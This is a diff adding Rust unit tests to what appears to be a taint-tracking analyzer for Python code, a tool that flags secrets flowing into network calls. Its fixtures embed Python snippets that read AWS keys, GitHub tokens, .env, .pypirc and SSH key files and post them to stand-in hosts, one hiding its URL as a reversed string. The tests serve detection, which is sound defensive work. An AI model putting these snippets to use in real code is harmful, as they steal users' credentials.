@@ -721,3 +721,180 @@ fn text_with_unknown_parts_is_a_template() {
     assert!(args[3].template.is_none());
     assert_eq!(args[3].text.as_deref(), Some("echo 1"));
 }
+
+#[test]
+fn a_name_bound_in_any_branch_keeps_that_branch_s_taint() {
+    let a = model(
+        "import os, requests\n\
+         if os.environ.get('K'):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\nelse:\n    key = 'empty'\n\
+         try:\n    home = open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    home = ''\n\
+         plain = 'a' if os.name else 'b'\n\
+         requests.post('https://h.example/', data=key)\n\
+         requests.put('https://h.example/', data=home)\n\
+         requests.get('https://h.example/' + plain)\n",
+        FileRole::Module,
+    );
+    let key = &call(&a, "requests.post").keyword("data").unwrap();
+    assert!(key.has(taint::ENV_SECRET));
+    // The tainted value stands for the name, not the `else` constant.
+    assert_eq!(key.text, None);
+    assert!(
+        call(&a, "requests.put")
+            .keyword("data")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+    assert_eq!(call(&a, "requests.get").args[0].taint, 0);
+}
+
+#[test]
+fn environment_variables_named_as_credentials_are_env_secrets() {
+    let a = model(
+        "import os, requests\nrequests.post('u', data=os.getenv('GITHUB_TOKEN'))\n\
+         requests.put('u', data=os.environ['AWS_ACCESS_KEY_ID'])\n\
+         requests.get('u', params=os.environ.get('HTTP_PROXY'))\n",
+        FileRole::Module,
+    );
+    assert!(
+        call(&a, "requests.post")
+            .keyword("data")
+            .unwrap()
+            .has(taint::ENV_SECRET)
+    );
+    assert!(
+        call(&a, "requests.put")
+            .keyword("data")
+            .unwrap()
+            .has(taint::ENV_SECRET)
+    );
+    let proxy = call(&a, "requests.get").keyword("params").unwrap();
+    assert!(proxy.has(taint::ENV) && !proxy.has(taint::ENV_SECRET));
+}
+
+#[test]
+fn an_environment_lookup_is_its_default_unless_the_user_set_it() {
+    let a = model(
+        "import os, urllib.request\nuc = 'moc.elpmaxe.kooh//:sptth'\n\
+         endpoint = os.environ.get('MY_URL', uc[::-1])\nurllib.request.urlopen(endpoint)\n",
+        FileRole::Module,
+    );
+    let sent = &call(&a, "urllib.request.urlopen").args[0];
+    assert_eq!(sent.text.as_deref(), Some("https://hook.example.com"));
+    assert!(sent.has(taint::ENV));
+}
+
+#[test]
+fn files_picked_by_a_credential_name_hold_secrets() {
+    let a = model(
+        r#"import os, requests
+from pathlib import Path
+
+def sweep(root):
+    found = []
+    for d, _, files in os.walk(root):
+        for f in files:
+            if f == ".env" or f.endswith((".npmrc", ".pypirc")):
+                found.append(os.path.join(d, f))
+    return found
+
+def grab(root):
+    texts = [Path(p).read_text() for p in sweep(root)]
+    requests.post("https://h.example/", json=texts)
+
+def keys():
+    requests.put("https://h.example/", data=[open(p).read() for p in Path.home().rglob("id_rsa")])
+
+def logs(root):
+    requests.patch("https://h.example/", data=[open(p).read() for p in os.listdir(root) if p.endswith(".log")])
+"#,
+        FileRole::Module,
+    );
+    assert!(
+        call(&a, "requests.post")
+            .keyword("json")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+    assert!(
+        call(&a, "requests.put")
+            .keyword("data")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+    assert!(
+        !call(&a, "requests.patch")
+            .keyword("data")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+    assert!(names::is_credential_file_name("**/*.env"));
+    assert!(names::is_credential_file_name(".env.production"));
+    assert!(!names::is_credential_file_name(".envelope"));
+    assert!(!names::is_credential_file_name("environment.yml"));
+}
+
+#[test]
+fn a_library_function_started_on_a_thread_is_called() {
+    let a = model(
+        "import os, threading, subprocess\nfrom concurrent.futures import ThreadPoolExecutor\n\
+         threading.Thread(target=os.system, args=('id',)).start()\n\
+         ThreadPoolExecutor().submit(subprocess.run, ['ls'])\n\
+         threading.Thread(target=print, args=('hi',)).start()\n",
+        FileRole::Module,
+    );
+    assert_eq!(call(&a, "os.system").args[0].text.as_deref(), Some("id"));
+    call(&a, "subprocess.run");
+    assert!(!a.calls.iter().any(|c| c.name == "builtins.print"));
+}
+
+#[test]
+fn functions_keep_their_decorators_and_docstring() {
+    let a = model(
+        "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n\
+         @mcp.tool()\ndef add(a, b):\n    \"\"\"Adds.\"\"\"\n    return a + b\n",
+        FileRole::Module,
+    );
+    let add = a.functions.iter().find(|f| &*f.name == "add").unwrap();
+    assert_eq!(add.docstring.as_deref(), Some("Adds."));
+    assert_eq!(
+        add.decorators
+            .iter()
+            .map(QualName::as_str)
+            .collect::<Vec<_>>(),
+        ["mcp.server.fastmcp.FastMCP().tool()"]
+    );
+}
+
+#[test]
+fn files_read_from_credential_locations_hold_secrets() {
+    let a = model(
+        r#"import os, requests
+from pathlib import Path
+
+def grab(name):
+    home = os.path.expanduser("~")
+    requests.post("u", data=open(os.path.join(home, ".ssh", name)).read())
+    requests.put("u", data=(Path.home() / ".pypirc").read_text())
+    requests.patch("u", data=open(os.path.join(home, ".config", "app.toml")).read())
+"#,
+        FileRole::Module,
+    );
+    assert!(
+        call(&a, "requests.post")
+            .keyword("data")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+    assert!(
+        call(&a, "requests.put")
+            .keyword("data")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+    assert!(
+        !call(&a, "requests.patch")
+            .keyword("data")
+            .unwrap()
+            .has(taint::SECRET)
+    );
+}
